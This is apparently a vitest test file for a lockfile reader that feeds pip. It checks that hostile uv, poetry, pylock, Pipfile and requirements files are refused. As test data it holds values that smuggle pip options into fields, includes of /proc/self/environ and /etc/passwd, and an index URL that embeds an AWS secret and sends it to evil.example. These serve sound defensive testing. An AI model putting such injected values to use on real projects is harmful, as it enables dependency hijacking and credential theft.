/**
 * Lockfiles from a repository the action does not trust (issue 19): no field reaches pip
 * as an option, includes stay inside the project, every reader is bounded and linear,
 * and garbage is refused rather than shipped.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { UserError, UserErrors } from "../src/errors.ts";
import { renderRequirements } from "../src/install/pip.ts";
import { parsePep508 } from "../src/lock/common.ts";
import { chooseLockfile, readLockfile } from "../src/lock/index.ts";
import { evaluateMarker } from "../src/lock/markers.ts";
import { emptyIndexOptions, type LockedSet } from "../src/lock/types.ts";
import { makeTarget } from "../src/target.ts";

const HEX = "a".repeat(64);
const WHEEL = "six-1.17.0-py2.py3-none-any.whl";
const INJECTED = "1.17.0\\n--find-links /some/folder\\n--no-index\\nsix==1.17.0";

const roots: string[] = [];
afterAll(() => {
  for (const r of roots) rmSync(r, { recursive: true, force: true });
});

function project(files: Record<string, string>): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), "lpp-hostile-"));
  roots.push(dir);
  for (const [name, content] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    writeFileSync(path.join(dir, name), content);
  }
  return dir;
}

function read(dir: string, lockfile?: string): LockedSet {
  return readLockfile(chooseLockfile(dir, lockfile)!, {
    workingDirectory: dir,
    target: makeTarget("python3.12", "x86_64"),
    groups: [],
    extras: [],
  });
}

/** The run's error, and every message in it (several errors come as one UserErrors). */
function refusal(fn: () => unknown): { error: UserError; text: string } {
  try {
    fn();
  } catch (e) {
    if (!(e instanceof UserError)) throw e;
    const all = e instanceof UserErrors ? e.errors : [e];
    return { error: all[0]!, text: all.map((x) => x.describe()).join("\n") };
  }
  throw new Error("expected a UserError");
}

// --- one minimal lockfile per format, with one field replaced -------------------------------

const uvLock = (o: { name?: string; version?: string; hash?: string; index?: string; marker?: string } = {}) => `
version = 1
revision = 3
requires-python = ">=3.11"

[[package]]
name = "app"
version = "0.1.0"
source = { virtual = "." }
dependencies = [{ name = "six"${o.marker ? `, marker = "${o.marker}"` : ""} }]

[[package]]
name = "${o.name ?? "six"}"
version = "${o.version ?? "1.17.0"}"
source = { registry = "${o.index ?? "https://pypi.org/simple"}" }
wheels = [{ url = "https://files.example/${WHEEL}", hash = "${o.hash ?? `sha256:${HEX}`}" }]
`;

const poetryLock = (o: { name?: string; version?: string; hash?: string; index?: string; marker?: string } = {}) => `
[[package]]
name = "${o.name ?? "six"}"
version = "${o.version ?? "1.17.0"}"
description = ""
optional = false
python-versions = "*"
groups = ["main"]
${o.marker ? `markers = "${o.marker}"` : ""}
files = [{ file = "${WHEEL}", hash = "${o.hash ?? `sha256:${HEX}`}" }]
${o.index ? `\n[package.source]\ntype = "legacy"\nurl = "${o.index}"\nreference = "private"\n` : ""}
[metadata]
lock-version = "2.1"
python-versions = ">=3.11"
content-hash = "0"
`;

const pylock = (o: { name?: string; version?: string; hash?: string; index?: string; marker?: string } = {}) => `
lock-version = "1.0"
created-by = "test"

[[packages]]
name = "${o.name ?? "six"}"
version = "${o.version ?? "1.17.0"}"
index = "${o.index ?? "https://pypi.org/simple"}"
${o.marker ? `marker = "${o.marker}"` : ""}

[[packages.wheels]]
name = "${WHEEL}"
url = "https://files.example/${WHEEL}"
hashes = { sha256 = "${o.hash ?? HEX}" }
`;

const pipfileLock = (o: { name?: string; version?: string; hash?: string; index?: string; marker?: string } = {}) =>
  JSON.stringify({
    _meta: {
      "pipfile-spec": 6,
      sources: [{ name: "pypi", url: o.index ?? "https://pypi.org/simple", verify_ssl: true }],
    },
    default: {
      [o.name ?? "six"]: {
        hashes: [o.hash ?? `sha256:${HEX}`],
        index: "pypi",
        version: `==${o.version ?? "1.17.0"}`,
        ...(o.marker ? { markers: o.marker } : {}),
      },
    },
    develop: {},
  });

describe("lockfile text never reaches pip as options", () => {
  it("the issue's uv.lock: a version holding --find-links and --no-index is refused, naming file, line and field", () => {
    const dir = project({ "uv.lock": uvLock({ version: INJECTED }) });
    const { error, text } = refusal(() => read(dir));
    expect(error.where).toMatchObject({ file: "uv.lock", line: 12, distribution: "six" });
    expect(text).toMatch(
      /version of six "1\.17\.0\\n--find-links \/some\/folder\\n--no-index\\nsix==1\.17\.0" is not a version \(PEP 440/,
    );
    expect(text).not.toMatch(/\n--/);
  });

  // the same class through every reader and every field that reaches the requirements file
  const cases: [string, string, Record<string, string>, RegExp][] = [];
  const formats: [string, string, (o: Record<string, string>) => string, boolean][] = [
    ["uv.lock", "uv.lock", uvLock, true],
    ["poetry.lock", "poetry.lock", poetryLock, true],
    ["pylock.toml", "pylock.toml", pylock, true],
    ["Pipfile.lock", "Pipfile.lock", pipfileLock, false],
  ];
  for (const [label, file, make, toml] of formats) {
    const nl = toml ? "\\n" : "\n";
    cases.push(
      [
        label,
        "name",
        { [file]: make({ name: `six${nl}--no-index` }) },
        /name "six\\n--no-index" is not a distribution name/,
      ],
      [label, "version", { [file]: make({ version: `1.17.0${nl}--no-index` }) }, /is not a version|not pinned/],
      [
        label,
        "hash",
        {
          [file]: make({
            hash: toml && label === "pylock.toml" ? `${HEX}${nl}--no-index` : `sha256:${HEX}${nl}--no-index`,
          }),
        },
        /hash of six ".*" is not a hash pip accepts/,
      ],
      [
        label,
        "index URL",
        { [file]: make({ index: `https://pypi.org/simple${nl}--find-links /tmp` }) },
        /index URL of six "https:\/\/pypi\.org\/simple\\n--find-links \/tmp" is not an http\(s\):\/\/ or file:\/\/ URL/,
      ],
      [
        label,
        "marker",
        { [file]: make({ marker: `${"(".repeat(20_000)}os_name == 'posix'${")".repeat(20_000)}` }) },
        /nested too deeply/,
      ],
    );
  }
  cases.push(
    [
      "requirements.txt",
      "index URL",
      { "requirements.txt": '--index-url "https://pypi.org/simple --no-index"\nsix==1.17.0\n' },
      /index URL "https:\/\/pypi\.org\/simple --no-index" is not/,
    ],
    [
      "requirements.txt",
      "trusted host",
      { "requirements.txt": '--trusted-host "evil --no-index"\nsix==1.17.0\n' },
      /trusted host "evil --no-index" is not a host/,
    ],
    [
      "requirements.txt",
      "hash",
      { "requirements.txt": "six==1.17.0 --hash=sha256:abc\n" },
      /hash "sha256:abc" is not a hash pip accepts \(sha256: and 64 hex digits/,
    ],
    [
      "requirements.txt",
      "version",
      { "requirements.txt": "six===1.17.0\u0085--no-index\n" },
      /version of six "1\.17\.0\\u0085--no-index" is not a version/,
    ],
    [
      "requirements.txt",
      "env variable",
      // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's own ${VAR} syntax, on purpose
      { "requirements.txt": "--extra-index-url https://${AWS_SECRET_ACCESS_KEY}@evil.example/simple\nsix==1.17.0\n" },
      /holds an environment variable/,
    ],
    [
      "pyproject.toml (poetry 2.0 lock)",
      "extra",
      {
        "pyproject.toml": '[project]\nname = "app"\nversion = "0"\ndependencies = ["six[x\\n--no-index]==1.17.0"]\n',
        "poetry.lock": poetryLock()
          .replace('lock-version = "2.1"', 'lock-version = "2.0"')
          .replace('groups = ["main"]', ""),
      },
      /"six\[x\\n--no-index\]==1\.17\.0" is not a requirement|extra of six "x\\n--no-index" is not an extra name/,
    ],
    [
      "pyproject.toml (uv)",
      "name",
      {
        "pyproject.toml": '[project]\nname = "app"\nversion = "0"\ndependencies = ["-r /etc/passwd"]\n',
        "uv.lock": uvLock(),
      },
      /"-r \/etc\/passwd" is not a requirement \(PEP 508\)/,
    ],
  );
  it.each(cases)("%s: a hostile %s is refused with a clear error", (_label, _field, files, message) => {
    const dir = project(files);
    const { error, text } = refusal(() => read(dir));
    expect(text).toMatch(message);
    expect(error.where.file).toBeTruthy();
    expect(error.hint).toBeTruthy();
    // nothing from the file starts a new line of the message
    expect(text).not.toMatch(/\n\s*--(no-index|find-links)/);
  });

  it("renderRequirements refuses any field that could start a line or an option", () => {
    const lock: LockedSet = {
      format: "uv",
      lockfile: "uv.lock",
      requirements: [
        { name: "six", version: "1.17.0", extras: [], hashes: [`sha256:${HEX}`], where: { file: "uv.lock", line: 3 } },
      ],
      indexes: emptyIndexOptions(),
      complete: true,
      firstParty: [],
    };
    const indexes = { ...emptyIndexOptions(), indexUrl: "https://pypi.org/simple", findLinks: ["/work/wheels"] };
    expect(renderRequirements(lock, indexes)).toBe(
      `--index-url https://pypi.org/simple\n--find-links /work/wheels\nsix==1.17.0 --hash=sha256:${HEX}\n`,
    );
    const bad: [string, (l: LockedSet) => void, Partial<typeof indexes>?][] = [
      ["version with a newline", (l) => (l.requirements[0]!.version = "1.17.0\n--no-index")],
      ["version with a Python line break", (l) => (l.requirements[0]!.version = "1.17.0\u2028--no-index")],
      ["extra starting with -", (l) => (l.requirements[0]!.extras = ["--no-index"])],
      ["name with a space", (l) => (l.requirements[0]!.name = "six --no-index")],
      ["hash ending in a line continuation", (l) => (l.requirements[0]!.hashes = ["sha256:ab\\"])],
      ["index URL with a space", () => {}, { indexUrl: "https://pypi.org/simple --no-index" }],
      // biome-ignore lint/suspicious/noTemplateCurlyInString: pip's own ${VAR} syntax, on purpose
      ["find-links with ${VAR}", () => {}, { findLinks: ["/work/${AWS_SECRET_ACCESS_KEY}"] }],
      ["trusted host starting with -", () => {}, { trustedHosts: ["--no-index"] }],
    ];
    for (const [what, spoil, index] of bad) {
      const l = structuredClone(lock);
      spoil(l);
      expect(() => renderRequirements(l, { ...indexes, ...index }), what).toThrow(
        /refusing to pass .* to the installer/,
      );
    }
  });
});

describe("requirements.txt includes stay inside the project", () => {
  const SECRET = "AWS_SECRET_ACCESS_KEY=do-not-print-this-0123456789";

  it.each([
    ["-r /proc/self/environ", "-r /proc/self/environ\n"],
    ["-r ../../x", "-r ../../x\n"],
    ["a symlink to a file outside", "-r linked.txt\n"],
  ])("%s is refused without reading it", (_what, requirements) => {
    const outside = project({ x: `${SECRET}\n`, "secret.txt": `${SECRET}\n` });
    const dir = project({ "requirements.txt": requirements });
    symlinkSync(path.join(outside, "secret.txt"), path.join(dir, "linked.txt"));
    mkdirSync(path.join(outside, "a", "b"), { recursive: true });
    const { error, text } = refusal(() => read(dir));
    expect(text).toMatch(/resolves to a file outside the project, which is not read|does not exist/);
    expect(error.where).toMatchObject({ file: "requirements.txt", line: 1 });
    expect(text).not.toContain("do-not-print-this");
  });

  it("a requirements.txt that is itself a symlink out of the project is not read", () => {
    const outside = project({ "secret.txt": `${SECRET}\n` });
    const dir = project({});
    symlinkSync(path.join(outside, "secret.txt"), path.join(dir, "requirements.txt"));
    const { text } = refusal(() => read(dir));
    expect(text).toMatch(/resolves to a file outside the project/);
    expect(text).not.toContain("do-not-print-this");
  });

  it("a bad line is echoed once, escaped, at most 200 characters, with URL passwords redacted", () => {
    const dir = project({ "requirements.txt": `https://user:hunter22@host.example/${"x".repeat(5000)}.whl\n` });
    const { text } = refusal(() => read(dir));
    expect(text).toMatch(/direct reference "https:\/\/user:\*\*\*@host\.example\/x+…"/);
    expect(text).not.toContain("hunter22");
    expect(text.length).toBeLessThan(600);
  });
});

describe("bounded readers", () => {
  it("-r /dev/zero (through a symlink inside the project) fails fast", { timeout: 2000 }, () => {
    const dir = project({ "requirements.txt": "-r zero\n" });
    symlinkSync("/dev/zero", path.join(dir, "zero"));
    expect(refusal(() => read(dir)).text).toMatch(/zero resolves to a file outside the project|not a regular file/);
  });

  it("a FIFO named as the lockfile or included does not block", { timeout: 2000 }, () => {
    const dir = project({ "requirements.txt": "-r pipe\n" });
    execFileSync("mkfifo", [path.join(dir, "pipe")]);
    expect(refusal(() => read(dir)).text).toMatch(/included requirements file pipe is not a regular file/);
    expect(refusal(() => read(dir, "pipe")).text).toMatch(/lockfile pipe is not a regular file/);
  });

  it("a lockfile over 16 MiB is refused", { timeout: 2000 }, () => {
    const dir = project({ "requirements.txt": "-r big.txt\n", "big.txt": "#".repeat(16 * 1024 * 1024 + 1) });
    expect(refusal(() => read(dir)).text).toMatch(/big\.txt is larger than 16 MiB/);
  });

  it("PEP 508 parsing is linear: 4,000 spaces and a 6 KB dependency string parse at once", { timeout: 2000 }, () => {
    const started = Date.now();
    expect(parsePep508(`a${" ".repeat(4000)}x`)).toMatchObject({ name: "a", specifier: "x" });
    expect(parsePep508(`a [b]${" ".repeat(100_000)}>=1${" ".repeat(100_000)};`)?.specifier).toBe(">=1");
    const dir = project({
      "pyproject.toml": `[project]\nname = "app"\nversion = "0"\ndependencies = ["six${" ".repeat(6000)}!"]\n`,
      "uv.lock": uvLock(),
    });
    refusal(() => read(dir));
    expect(Date.now() - started).toBeLessThan(1500);
  });

  it("a marker nested 20,000 parentheses deep is a UserError, and long flat markers still evaluate", {
    timeout: 2000,
  }, () => {
    const dir = project({
      "requirements.txt": `six==1.17.0 ; ${"(".repeat(20_000)}os_name == "posix"${")".repeat(20_000)}\n`,
    });
    const { error, text } = refusal(() => read(dir));
    expect(text).toMatch(/marker nested too deeply/);
    expect(error.where).toMatchObject({ file: "requirements.txt", line: 1, distribution: "six" });
    const env = { os_name: "posix" };
    expect(evaluateMarker(Array(500).fill('os_name == "posix"').join(" and "), env)).toBe(true);
  });
});

describe("garbage is refused, not shipped", () => {
  it.each([
    ["missing", undefined],
    ["null", null],
    ["an array", []],
  ])("Pipfile.lock whose default is %s", (_what, value) => {
    const doc: Record<string, unknown> = { _meta: { "pipfile-spec": 6, sources: [] }, develop: {} };
    if (value !== undefined) doc.default = value;
    const dir = project({ "Pipfile.lock": JSON.stringify(doc, null, 4) });
    const { error, text } = refusal(() => read(dir));
    expect(text).toMatch(/Pipfile\.lock has no "default" section/);
    expect(error.where.file).toBe("Pipfile.lock");
  });

  it("two uv.lock entries for the same name and version with different hashes name both lines", () => {
    const twice = `${uvLock()}\n[[package]]\nname = "six"\nversion = "1.17.0"\nsource = { registry = "https://pypi.org/simple" }\nwheels = [{ url = "https://files.example/${WHEEL}", hash = "sha256:${"b".repeat(64)}" }]\n`;
    const { error, text } = refusal(() => read(project({ "uv.lock": twice })));
    expect(text).toMatch(
      /six 1\.17\.0 from registry https:\/\/pypi\.org\/simple is in uv\.lock twice \(line 12 and line 18\)/,
    );
    expect(error.where).toMatchObject({ file: "uv.lock", line: 18, distribution: "six" });
  });

  it("a uv.lock dependency that matches two tables (same version, other source) is refused", () => {
    const twice = `${uvLock()}\n[[package]]\nname = "six"\nversion = "1.17.0"\nsource = { registry = "https://other.example/simple" }\nwheels = [{ url = "https://files.example/${WHEEL}", hash = "sha256:${"b".repeat(64)}" }]\n`;
    expect(refusal(() => read(project({ "uv.lock": twice }))).text).toMatch(
      /the dependency on six matches 2 tables of uv\.lock \(lines 12, 18\)/,
    );
  });

  it("two poetry.lock entries for the same name and version name both lines", () => {
    const lock = poetryLock();
    const entry = lock.slice(0, lock.indexOf("[metadata]"));
    const { text } = refusal(() =>
      read(project({ "poetry.lock": `${entry}${entry}${lock.slice(lock.indexOf("[metadata]"))}` })),
    );
    expect(text).toMatch(/six 1\.17\.0 is in poetry\.lock twice \(line 2 and line 1[0-9]\)/);
  });

  it("two pylock.toml entries that apply to the target name both lines", () => {
    const lock = pylock();
    const entry = lock.slice(lock.indexOf("[[packages]]"));
    const { text } = refusal(() => read(project({ "pylock.toml": `${lock}\n${entry}` })));
    expect(text).toMatch(/two entries of six \(1\.17\.0 at line 5 and 1\.17\.0 at line \d+\)/);
  });

  it("the same Pipfile.lock package in two sections with different hashes is refused", () => {
    const doc = JSON.parse(pipfileLock());
    doc.develop = { six: { ...doc.default.six, hashes: [`sha256:${"b".repeat(64)}`] } };
    const dir = project({ "Pipfile.lock": JSON.stringify(doc, null, 4) });
    const set = () =>
      readLockfile(chooseLockfile(dir, undefined)!, {
        workingDirectory: dir,
        target: makeTarget("python3.12", "x86_64"),
        groups: ["develop"],
        extras: [],
      });
    expect(refusal(set).text).toMatch(/six 1\.17\.0 is locked twice with different hashes/);
  });
});
